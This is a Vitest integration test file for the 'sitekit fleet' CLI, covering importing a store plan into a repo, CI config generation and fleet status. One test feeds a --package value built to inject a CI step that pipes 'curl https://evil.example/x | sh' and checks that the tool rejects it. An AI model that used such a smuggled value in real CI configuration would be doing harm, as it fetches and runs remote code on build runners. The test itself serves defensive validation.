/**
 * `sitekit fleet import|status|ci` through the CLI dispatcher and the contract, on real folders, real git and
 * a 120-store plan made here. The CI configs are validated (action-validator for GitHub, structure for
 * GitLab) and the lint script they contain is run by a real shell against the repo.
 *
 * The 120-store repo is imported once (beforeAll) into a template that no test changes; a test that changes
 * a repo works on its own copy, so every test runs alone and in any order.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFileSync, spawnSync } from 'node:child_process';
import { chmod, cp, mkdir, readdir, readFile, stat, writeFile } from 'node:fs/promises';
import { join, relative } from 'node:path';
import { parse as parseYaml } from 'yaml';
import { build } from 'esbuild';
import { validateWorkflow } from '@action-validator/core';
import { runCli } from '../../../main/cli/index';
import type { CliIO } from '../../../main/cli/types';
import { runtimeFor, type Runtime } from '../../../main/runtime/runtime';
import { createServices } from '../../../main/services/index';
import { parseSiteYaml, stringifySite } from '../../../main/core/site/yaml';
import { recordAcceptance, recordStickRun } from '../../../main/core/site/records';
import type { FleetStatus } from '../../../main/core/fleet/status';
import { tempDir } from '../../helpers/temp';
import { planCsv, planStores, planXlsx } from '../services/fleet/make-plan';

const ROOT = join(__dirname, '../../..');
const STORES = 120;
/** This source tree's CLI bundled once for the CI runs (as scripts/build.mjs does, but not into the shared out/). */
const CLI_BUNDLE = join(ROOT, 'node_modules/.cache/sitekit-fleet-test/cli.mjs');
let dir: { path: string; remove: () => Promise<void> };
let runtime: Runtime;
/** The repo imported from plan.csv, made once; tests copy it (repoFromPlan) or only read it. */
const TEMPLATE = 'template-repo';

beforeAll(async () => {
  dir = await tempDir('sitekit-fleet-');
  runtime = runtimeFor(createServices({ dataDir: join(dir.path, 'data'), version: '0.1.0' }));
  await writeFile(join(dir.path, 'plan.csv'), planCsv(planStores(STORES)));
  const r = await cli('fleet', 'import', 'plan.csv', '--repo', TEMPLATE);
  if (r.code !== 0) throw new Error(`template import failed: ${r.err}`);
});
afterAll(async () => {
  runtime.dispose();
  await dir.remove();
});

async function cli(...args: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const io: CliIO = {
    out: (t) => (out += t),
    err: (t) => (err += t),
    env: {},
    cwd: dir.path,
    tty: false,
    readSecret: () => Promise.reject(new Error('no terminal')),
    services: () => runtime.services,
    runtime: () => runtime,
  };
  const code = await runCli(args, io);
  return { code, out, err };
}

/** Every file under a folder (relative path → bytes), .git left out. */
async function tree(root: string): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  const entries = await readdir(root, { recursive: true, withFileTypes: true }).catch(() => []);
  for (const e of entries) {
    const parent = (e as unknown as { parentPath: string }).parentPath;
    if (!e.isFile() || parent.includes('/.git')) continue;
    const full = join(parent, e.name);
    out.set(relative(root, full), (await readFile(full)).toString('base64'));
  }
  return out;
}

/** A copy of the repo imported from plan.csv, at `name` under the test folder (relative name, as the CLI takes it). */
async function repoFromPlan(name: string): Promise<string> {
  await cp(join(dir.path, TEMPLATE), join(dir.path, name), { recursive: true });
  return name;
}

/** The CI job's environment: the runner's, with Sitekit's data folder kept inside the test folder. */
const env = (): NodeJS.ProcessEnv => ({ ...process.env, SITEKIT_DATA_DIR: join(dir.path, 'ci-data') });

const git = (cwd: string, ...args: string[]): string =>
  execFileSync('git', ['-c', 'user.name=Fleet Test', '-c', 'user.email=fleet@example.invalid', ...args], { cwd, encoding: 'utf8' });

describe('sitekit fleet import', () => {
  it('writes one folder per store, both hosts of two-node stores, and the same bytes every time', async () => {
    const r = await cli('fleet', 'import', 'plan.csv', '--repo', 'repo');
    expect(r.code, r.err).toBe(0);
    expect(r.out).toContain(`Imported ${STORES} store(s) from plan.csv`);
    expect(r.out).toContain(`${STORES} added, 0 updated, 0 unchanged, 0 kept`);
    expect(r.err).toContain('note: plan.csv:1: ignored column "region_manager" (not a plan column)');
    const ids = (await readdir(join(dir.path, 'repo/sites'))).sort();
    expect(ids).toHaveLength(STORES);
    expect(ids[0]).toBe('store-0001');
    for (const i of [1, 2, 3, 119, 120]) {
      const id = `store-${String(i).padStart(4, '0')}`;
      const site = parseSiteYaml(await readFile(join(dir.path, 'repo/sites', id, 'site.yaml'), 'utf8'));
      expect(site.ok).toBe(true);
      const hosts = (await readdir(join(dir.path, 'repo/sites', id, 'hosts'))).sort();
      expect(hosts).toEqual(i % 3 === 0 ? ['esx01'] : ['esx01', 'esx02']);
      if (site.ok) expect(site.value.spec.hosts.map((h) => h.management.ip)).toEqual(i % 3 === 0 ? [`10.0.${i}.11`] : [`10.0.${i}.11`, `10.0.${i}.12`]);
    }
    // Deterministic: a second import into a new repo gives byte-identical files; a re-import changes nothing.
    const again = await cli('fleet', 'import', 'plan.csv', '--repo', 'repo-again');
    expect(again.code, again.err).toBe(0);
    const [a, b] = [await tree(join(dir.path, 'repo')), await tree(join(dir.path, 'repo-again'))];
    expect(a.size).toBeGreaterThan(STORES * 5);
    expect([...b.keys()].sort()).toEqual([...a.keys()].sort());
    for (const [p, bytes] of a) expect(b.get(p), p).toBe(bytes);
    const same = await cli('fleet', 'import', 'plan.csv', '--repo', 'repo');
    expect(same.out).toContain(`0 added, 0 updated, ${STORES} unchanged, 0 kept; 0 file(s) written`);
  });

  it('reads the same plan from an .xlsx workbook into the same files', async () => {
    const stores = planStores(12);
    await writeFile(join(dir.path, 'plan12.xlsx'), await planXlsx(stores));
    await writeFile(join(dir.path, 'plan12.csv'), planCsv(stores));
    expect((await cli('fleet', 'import', 'plan12.xlsx', '--repo', 'x-xlsx')).code).toBe(0);
    expect((await cli('fleet', 'import', 'plan12.csv', '--repo', 'x-csv')).code).toBe(0);
    const [x, c] = [await tree(join(dir.path, 'x-xlsx')), await tree(join(dir.path, 'x-csv'))];
    expect(x.size).toBeGreaterThan(12 * 5);
    expect([...x.entries()].sort()).toEqual([...c.entries()].sort());
  });

  it('names every bad row by line and column, exits non-zero, and writes nothing', async () => {
    const stores = planStores(STORES).map((s, i) => (i === 47 ? { ...s, host1_ip: '10.0.48.300' } : i === 90 ? { ...s, host2_model: 'Raspberry Pi 5', gateway: '192.168.1.1' } : s));
    await writeFile(join(dir.path, 'bad.csv'), planCsv(stores));
    const existing = await repoFromPlan('repo-bad-existing');
    const before = await tree(join(dir.path, existing));
    for (const repo of ['repo-bad', existing]) {
      const r = await cli('fleet', 'import', 'bad.csv', '--repo', repo);
      expect(r.code).toBe(1);
      const lines = r.err.split('\n');
      // Row 48 of the stores is on line 49 of the file (line 1 is the header).
      expect(lines).toContain('bad.csv:49: host1_ip: "10.0.48.300" must be an IPv4 address such as 192.168.10.11 (four numbers 0–255, no leading zeros)');
      expect(lines).toContain('bad.csv:92: gateway: the gateway 192.168.1.1 is outside the management subnet 10.0.91.0/24');
      expect(lines.some((l) => /^bad\.csv:92: host2_model: "Raspberry Pi 5" matches no model of the compatibility list/.test(l))).toBe(true);
      expect(r.err).toMatch(/error: bad\.csv has 3 problems; nothing was written\.\nkept: The repository was not changed\./);
    }
    await expect(stat(join(dir.path, 'repo-bad'))).rejects.toThrow();
    expect(await tree(join(dir.path, existing))).toEqual(before);
  });

  it('changes an existing store only with --update, which prints the diff first', async () => {
    const stores = planStores(STORES).map((s, i) => (i === 4 ? { ...s, site_name: 'Store 0005 Renamed', ntp: 'ntp.example.com' } : s));
    await writeFile(join(dir.path, 'renamed.csv'), planCsv(stores));
    const repo = await repoFromPlan('repo-update');
    const file = join(dir.path, repo, 'sites/store-0005/site.yaml');
    const before = await readFile(file, 'utf8');
    const kept = await cli('fleet', 'import', 'renamed.csv', '--repo', repo);
    expect(kept.code).toBe(0);
    expect(kept.err).toContain('note: renamed.csv:6: store-0005 is already in the repo and differs from the plan; kept as it is');
    expect(await readFile(file, 'utf8')).toBe(before);
    const upd = await cli('fleet', 'import', 'renamed.csv', '--repo', repo, '--update');
    expect(upd.code, upd.err).toBe(0);
    expect(upd.out).toContain('--- a/sites/store-0005/site.yaml\n+++ b/sites/store-0005/site.yaml');
    expect(upd.out).toMatch(/^-  name: Store 0005 York$\n^\+  name: Store 0005 Renamed$/m);
    expect(upd.out).toContain('+      - ntp.example.com');
    expect(upd.out.indexOf('--- a/sites/store-0005')).toBeLessThan(upd.out.indexOf('Imported'));
    expect(upd.out).toContain('0 added, 1 updated, 119 unchanged');
    expect(await readFile(file, 'utf8')).toContain('name: Store 0005 Renamed');
    // The plan again: the store is back to the bytes it had.
    expect((await cli('fleet', 'import', 'plan.csv', '--repo', repo, '--update')).code).toBe(0);
    expect(await readFile(file, 'utf8')).toBe(before);
  });

  it('lints clean, site by site, with the same command CI runs', async () => {
    const ids = (await readdir(join(dir.path, TEMPLATE, 'sites'))).sort();
    let linted = 0;
    for (const id of ids) {
      const r = await cli('lint', `${TEMPLATE}/sites/${id}`);
      expect(r.code, `${id}: ${r.out}`).toBe(0);
      expect(r.out).toMatch(new RegExp(`: 0 error\\(s\\), 0 warning\\(s\\), \\d+ note\\(s\\) \\(site ${id}\\)\\.\\n$`));
      linted++;
    }
    expect(linted).toBe(STORES);
  });
});

/** A `sitekit` bin in the repo's node_modules, as `npm install` of Sitekit would give the CI job; runs this source tree. */
async function installShim(repo: string): Promise<void> {
  await mkdir(join(repo, 'node_modules/.bin'), { recursive: true });
  const shim = join(repo, 'node_modules/.bin/sitekit');
  await build({
    entryPoints: [join(ROOT, 'main/cli/main.ts')],
    outfile: CLI_BUNDLE,
    bundle: true,
    platform: 'node',
    target: 'node20',
    format: 'esm',
    packages: 'external',
    define: { __SITEKIT_VERSION__: JSON.stringify('0.1.0') },
    banner: { js: "import { createRequire as __sitekitCreateRequire } from 'node:module'; const require = __sitekitCreateRequire(import.meta.url);" },
    logLevel: 'warning',
  });
  await writeFile(shim, `#!/bin/sh\nexec "${process.execPath}" "${CLI_BUNDLE}" "$@"\n`);
  await chmod(shim, 0o755);
  await writeFile(join(repo, '.gitignore'), 'node_modules/\n.sitekit-lint/\ngl-code-quality-report.json\n');
}

describe('sitekit fleet ci', () => {
  /** The commit before the change the CI configs lint. */
  let base = '';
  beforeAll(async () => {
    const repo = join(dir.path, await repoFromPlan('ci-repo'));
    git(repo, 'init', '-q', '-b', 'main');
    await installShim(repo);
    git(repo, 'add', '.');
    git(repo, 'commit', '-q', '-m', 'fleet: 120 stores');
    base = git(repo, 'rev-parse', 'HEAD').trim();
    // The change under review: one store gets a real lint error (HostConfiguration outside esx-system), one a clean edit.
    const time = join(repo, 'sites/store-0002/base/time.yaml');
    await writeFile(time, (await readFile(time, 'utf8')).replace('namespace: esx-system', 'namespace: default'));
    const readme = join(repo, 'sites/store-0003/hosts/esx01/kustomization.yaml');
    await writeFile(readme, (await readFile(readme, 'utf8')) + '# reviewed\n');
    git(repo, 'commit', '-q', '-am', 'change two stores');
  });

  it('writes a GitHub workflow that action-validator accepts and whose lint step annotates and fails on errors', async () => {
    const r = await cli('fleet', 'ci', '--repo', 'ci-repo', '--github');
    expect(r.code, r.err).toBe(0);
    const text = await readFile(join(dir.path, 'ci-repo/.github/workflows/sitekit-lint.yml'), 'utf8');
    const v = validateWorkflow(text);
    expect(v.errors, JSON.stringify(v.errors)).toEqual([]);
    const wf = parseYaml(text) as { on: { push: { paths: string[] } }; jobs: { lint: { steps: { name?: string; run?: string; env?: Record<string, string> }[] } } };
    expect(wf.on.push.paths).toEqual(['sites/**']);
    const install = wf.jobs.lint.steps.find((s) => s.run?.startsWith('npm install'));
    expect(install?.run).toBe('npm install --no-save --no-package-lock --no-audit --no-fund sitekit@0.1.0');
    const step = wf.jobs.lint.steps.find((s) => s.name === 'sitekit lint');
    expect(step?.env?.BASE_SHA).toContain('github.event.pull_request.base.sha');
    expect(step?.run).toContain('npx --no-install sitekit lint "$dir" --format github');
    // Run the step's script as the runner would (bash), on the pushed change.
    const run = spawnSync('bash', ['-e', '-c', step?.run ?? 'exit 9'], { cwd: join(dir.path, 'ci-repo'), env: { ...env(), BASE_SHA: base }, encoding: 'utf8', timeout: 120_000 });
    expect(run.status, run.stderr).toBe(1);
    expect(run.stdout).toContain('sitekit lint sites/store-0002');
    expect(run.stdout).toContain('sitekit lint sites/store-0003');
    expect(run.stdout).not.toContain('sitekit lint sites/store-0004');
    expect(run.stdout).toMatch(/^::error file=sites\/store-0002\/base\/time\.yaml,line=\d+,title=sitekit hc-namespace::.+/m);
    expect(run.stdout).toContain('sitekit lint sites/store-0003: 0 error(s)');
    // Without a base commit (first push of a branch) every site is selected. Only the selection is checked
    // here: a stand-in `npx` first on PATH records the calls (npx costs ~1 s a call; the real runs are above).
    const stub = join(dir.path, 'stub-bin');
    await mkdir(stub, { recursive: true });
    await writeFile(join(stub, 'npx'), '#!/bin/sh\necho "called: $*"\n');
    await chmod(join(stub, 'npx'), 0o755);
    const all = spawnSync('bash', ['-e', '-c', step?.run ?? 'exit 9'], { cwd: join(dir.path, 'ci-repo'), env: { ...env(), PATH: `${stub}:${process.env.PATH}`, BASE_SHA: '0000000000000000000000000000000000000000' }, encoding: 'utf8', timeout: 120_000 });
    expect(all.status, all.stderr).toBe(0);
    expect(all.stdout.match(/^called: --no-install sitekit lint sites\/store-\d{4} --format github$/gm)).toHaveLength(STORES);
  }, 300_000);

  it('refuses a --package that would add a step to the job (a newline and a run: line), writing nothing', async () => {
    const spec = 'sitekit@0.1.0\n      - name: pwn\n        run: curl https://evil.example/x | sh';
    const r = await cli('fleet', 'ci', '--repo', 'repo', '--gitlab', '--package', spec);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/cannot go into the CI job: it contains whitespace or a control character/);
    await expect(stat(join(dir.path, 'repo/.gitlab-ci.yml'))).rejects.toMatchObject({ code: 'ENOENT' });
  });

  it('writes a GitLab CI config whose job produces a valid Code Quality report', async () => {
    const r = await cli('fleet', 'ci', '--repo', 'ci-repo', '--gitlab', '--package', 'https://example.invalid/sitekit-0.1.0.tgz');
    expect(r.code, r.err).toBe(0);
    const text = await readFile(join(dir.path, 'ci-repo/.gitlab-ci.yml'), 'utf8');
    const ci = parseYaml(text) as Record<string, { stage?: string; image?: string; script?: string[]; before_script?: string[]; rules?: { if: string; changes: string[] }[]; artifacts?: { when: string; reports: { codequality: string } } }> & { stages: string[] };
    expect(ci.stages).toEqual(['test']);
    const job = ci['sitekit-lint'];
    expect(job?.stage).toBe('test');
    expect(job?.image).toBe('node:20');
    expect(job?.before_script).toEqual(['npm install --no-save --no-package-lock --no-audit --no-fund https://example.invalid/sitekit-0.1.0.tgz']);
    expect(job?.rules?.map((x) => x.if)).toEqual(['$CI_PIPELINE_SOURCE == "merge_request_event"', '$CI_COMMIT_BRANCH']);
    expect(job?.rules?.[0]?.changes).toEqual(['sites/**/*']);
    expect(job?.artifacts?.when).toBe('always');
    expect(job?.artifacts?.reports.codequality).toBe('gl-code-quality-report.json');
    expect(job?.script).toHaveLength(1);
    // GitLab runs the script with sh in the node image; run it the same way with the variables GitLab sets.
    const run = spawnSync('sh', ['-c', job?.script?.[0] ?? 'exit 9'], { cwd: join(dir.path, 'ci-repo'), env: { ...env(), CI_COMMIT_BEFORE_SHA: base }, encoding: 'utf8', timeout: 120_000 });
    expect(run.status, run.stderr).toBe(1);
    const report = JSON.parse(await readFile(join(dir.path, 'ci-repo/gl-code-quality-report.json'), 'utf8')) as unknown[];
    expect(report.length).toBeGreaterThan(0);
    const fingerprints = new Set<string>();
    for (const issue of report as Record<string, unknown>[]) {
      expect(Object.keys(issue).sort()).toEqual(['check_name', 'description', 'fingerprint', 'location', 'severity']);
      expect(typeof issue.description).toBe('string');
      expect(issue.check_name).toMatch(/^sitekit\/[a-z-]+$/);
      expect(['info', 'minor', 'major', 'critical', 'blocker']).toContain(issue.severity);
      const loc = issue.location as { path: string; lines: { begin: number } };
      expect(loc.lines.begin).toBeGreaterThanOrEqual(1);
      await expect(stat(join(dir.path, 'ci-repo', loc.path))).resolves.toBeTruthy();
      fingerprints.add(issue.fingerprint as string);
    }
    expect(fingerprints.size).toBe(report.length);
    expect(report).toContainEqual(expect.objectContaining({ check_name: 'sitekit/hc-namespace', severity: 'major', location: expect.objectContaining({ path: 'sites/store-0002/base/time.yaml' }) }));
  }, 200_000);
});

describe('sitekit fleet status', () => {
  it('shows each store committed, pushed, its sticks, and what is not committed yet', async () => {
    const repo = join(dir.path, await repoFromPlan('status-repo'));
    // The imported stores committed and pushed to a bare remote.
    git(repo, 'init', '-q', '-b', 'main');
    git(repo, 'add', '.');
    git(repo, 'commit', '-q', '-m', 'fleet: 120 stores');
    const remote = join(dir.path, 'remote.git');
    execFileSync('git', ['init', '-q', '--bare', '-b', 'main', remote]);
    git(repo, 'remote', 'add', 'origin', remote);
    git(repo, 'push', '-q', '-u', 'origin', 'main');
    // A stick written for store-0007, recorded in its site.yaml and committed (not pushed yet).
    const file = join(repo, 'sites/store-0007/site.yaml');
    const text = await readFile(file, 'utf8');
    const site = parseSiteYaml(text);
    if (!site.ok) throw new Error(site.error.message);
    const stick = recordStickRun(site.value, { at: '2026-12-02T10:00:00.000Z', target: '/dev/sdb', imageSha256: 'ab'.repeat(32), hosts: ['esx01', 'esx02'], verified: true });
    await writeFile(file, stringifySite(stick, text));
    git(repo, 'commit', '-q', '-am', 'store-0007: stick written');
    // store-0008: a stick, and every host accepted on site in its latest run (one host failed an earlier run).
    const file8 = join(repo, 'sites/store-0008/site.yaml');
    const text8 = await readFile(file8, 'utf8');
    const site8 = parseSiteYaml(text8);
    if (!site8.ok) throw new Error(site8.error.message);
    const run = (at: string, verdicts: Record<string, 'accepted' | 'differences'>) =>
      site8.value.spec.hosts.map((h) => ({ at, run: at, host: h.name, address: h.management.ip ?? '', port: 443, user: 'root', verdict: verdicts[h.name] ?? 'accepted', differences: [] }));
    let accepted = recordStickRun(site8.value, { at: '2026-12-02T10:00:00.000Z', target: '/dev/sdc', imageSha256: 'cd'.repeat(32), hosts: [], verified: true });
    accepted = recordAcceptance(accepted, run('2026-12-03T09:00:00.000Z', { [site8.value.spec.hosts[0]!.name]: 'differences' }));
    accepted = recordAcceptance(accepted, run('2026-12-03T09:20:00.000Z', {}));
    await writeFile(file8, stringifySite(accepted, text8));
    git(repo, 'commit', '-q', '-am', 'store-0008: accepted on site');
    // An uncommitted edit in store-0010.
    const k = join(repo, 'sites/store-0010/base/time.yaml');
    await writeFile(k, (await readFile(k, 'utf8')) + '# edited\n');

    const r = await cli('fleet', 'status', '--repo', 'status-repo', '--json');
    expect(r.code, r.err).toBe(0);
    const s = JSON.parse(r.out) as FleetStatus;
    expect(s.rows).toHaveLength(STORES);
    const row = (id: string) => s.rows.find((x) => x.id === id);
    expect(row('store-0007')).toMatchObject({ stage: 'stick-written', committed: true, pushed: false, sticks: 1, reports: 0, manifestsUpToDate: true, lint: { errors: 0, warnings: 0 } });
    expect(row('store-0001')).toMatchObject({ stage: 'committed', committed: true, pushed: true, sticks: 0, manifestsUpToDate: true });
    expect(row('store-0010')).toMatchObject({ stage: 'not-started', committed: false, pushed: false });
    expect(row('store-0008')).toMatchObject({ stage: 'accepted', committed: true, sticks: 1, accepted: true, reports: 0 });
    expect(row('store-0007')!.accepted).toBe(false);
    expect(s.counts).toEqual({ 'not-started': 1, committed: STORES - 3, 'stick-written': 1, accepted: 1, done: 0 });

    const table = await cli('fleet', 'status', '--repo', 'status-repo');
    expect(table.out).toMatch(/^store-0007 +Stick written +up to date +0\/0 +yes +no +1 +no +—$/m);
    expect(table.out).toMatch(/^store-0008 +Accepted on site +up to date +0\/0 +yes +no +1 +yes +—$/m);
    expect(table.out).toContain(`${STORES} site(s) on main at ${s.head?.slice(0, 12)}: 1 not started, ${STORES - 3} committed, 1 stick written, 1 accepted on site, 0 done.`);
  });
});
